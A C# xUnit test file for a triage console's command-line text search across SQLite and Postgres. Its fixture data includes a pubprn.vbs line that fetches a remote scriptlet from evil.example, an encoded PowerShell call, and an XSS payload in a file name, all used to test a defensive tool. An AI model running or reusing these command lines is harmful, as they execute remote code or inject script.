using Microsoft.EntityFrameworkCore;
using TriageConsole.Data.Ingest;
using TriageConsole.Data.Retention;
using TriageConsole.Data.Search;
using TriageConsole.Data.Tests.Ingest;
using TriageConsole.Domain.Events;
using Xunit;

namespace TriageConsole.Data.Tests.Search;

public sealed class TextSearchTests
{
    private const string Hostile = "\"C:\\Tools\\<img src=x onerror=alert(1)>.exe\" /go";
    private const string Pubprn = @"cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://evil.example/a.sct";
    private const string Encoded = "powershell.exe -NoP -enc SQBFAFgA123e4xyz";
    private const string Accents = @"C:\Büro\Прога.exe /größe";

    private static readonly string[] _lines = [Hostile, Pubprn, Encoded, Accents];

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public static TheoryData<Engine, string, string[]> Questions()
    {
        var data = new TheoryData<Engine, string, string[]>();
        foreach (var engine in Enum.GetValues<Engine>())
        {
            data.Add(engine, "pubprn", [Pubprn]);
            data.Add(engine, "PUBPR", [Pubprn]);
            data.Add(engine, "ubprn", []);
            data.Add(engine, @"printing_admin_scripts\en-us\pubprn.vbs", [Pubprn]);
            data.Add(engine, "script:https://evil", [Pubprn]);
            data.Add(engine, "\"script https evil example\"", [Pubprn]);
            data.Add(engine, "\"https script\"", []);
            data.Add(engine, "vbs cscript", [Pubprn]);
            data.Add(engine, "vbs powershell", []);
            data.Add(engine, "-enc", [Encoded]);
            data.Add(engine, "exe !powershell !cscript", [Hostile, Accents]);
            data.Add(engine, "sqbfafga123e4xyz", [Encoded]);
            data.Add(engine, "127.0.0.1", [Pubprn]);
            data.Add(engine, "<img src=x onerror=alert(1)>", [Hostile]);
            data.Add(engine, "\" OR 1 NEAR(img, 2) * ^ Value:img", []);
            data.Add(engine, "BÜRO", [Accents]);
            data.Add(engine, "прог", [Accents]);
            data.Add(engine, "buro", []);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Questions))]
    public async Task Matching_Words_FindsTheSameOnBothDatabases(Engine engine, string question, string[] expected)
    {
        await using var test = await TestDatabase.CreateAsync(engine);
        await ImportAsync(test, _lines);

        Assert.Equal(expected.Order(StringComparer.Ordinal), await FindAsync(test, question));
    }

    [Theory]
    [InlineData(Engine.Sqlite)]
    [InlineData(Engine.Postgres)]
    public async Task Matching_AfterRemovalAndNumbersGivenAgain_KnowsWhatIsStored(Engine engine)
    {
        await using var test = await TestDatabase.CreateAsync(engine);
        await ImportAsync(test, [Pubprn]);
        var second = await ImportAsync(test, [Encoded, Hostile], at: 100);
        var removal = new ImportRemoval(test.Database);
        await removal.RemoveAsync(second, Cancel);
        Assert.True(await removal.ForgetAsync(second, Cancel));
        await ImportAsync(test, [Accents], at: 200);

        Assert.Empty(await FindAsync(test, "enc"));
        Assert.Equal([Accents], await FindAsync(test, "прога"));
        Assert.Equal([Pubprn], await FindAsync(test, "pubprn"));
        await CheckAsync(test);
    }

    [Fact]
    public async Task FinishWords_KilledBefore_IsMadeGoodByTheNext()
    {
        await using var test = await TestDatabase.CreateAsync(Engine.Sqlite);
        await test.ImportAsync(Tell.Sysmon1(0, 1, 100, @"C:\a.exe", Pubprn));
        Assert.Empty(await FindAsync(test, "pubprn"));

        await ImportAsync(test, [Encoded], at: 100);

        Assert.Equal([Pubprn], await FindAsync(test, "pubprn"));
        await CheckAsync(test);
    }

    [Fact]
    public async Task Write_ManyNewTexts_AreFoundBeforeTheImportEnds()
    {
        await using var test = await TestDatabase.CreateAsync(Engine.Sqlite);
        await test.ImportAsync(5_000, [.. Enumerable.Range(0, 25_000).Select(i => (TelemetryEvent)Tell.Sysmon1(i, i, (uint)i, @"C:\a.exe", $"a.exe /part{i}x"))]);

        Assert.Equal(["a.exe /part17x"], await FindAsync(test, "part17x"));
        Assert.Empty(await FindAsync(test, "part24999x"));
    }

    private static async Task<long> ImportAsync(TestDatabase test, string[] lines, int at = 0)
    {
        var import = await test.ImportAsync([.. lines.Select((line, i) => (TelemetryEvent)Tell.Sysmon1(i, at + i, (uint)(100 + i), @"C:\a.exe", line))]);
        await using var session = await IngestSession.OpenAsync(test.Database, import, Cancel);
        session.FinishWords();
        return import;
    }

    private static async Task<List<string>> FindAsync(TestDatabase test, string question)
    {
        await using var db = test.Context();
        var matching = TextSearch.Matching(db, SearchWords.Parse(question)!);
        var found = await db.Processes.Where(p => matching.Contains(p.CommandLineId!.Value)).Select(p => p.CommandLine!.Value).ToListAsync(Cancel);
        return [.. found.Order(StringComparer.Ordinal)];
    }

    // FTS5 compares its whole index with the texts.
    private static async Task CheckAsync(TestDatabase test)
    {
        if (!test.Database.IsSqlite)
            return;
        await using var db = test.Context();
        await db.Database.ExecuteSqlRawAsync("INSERT INTO \"TextSearch\" (\"TextSearch\", rank) VALUES ('integrity-check', 1)", Cancel);
    }
}
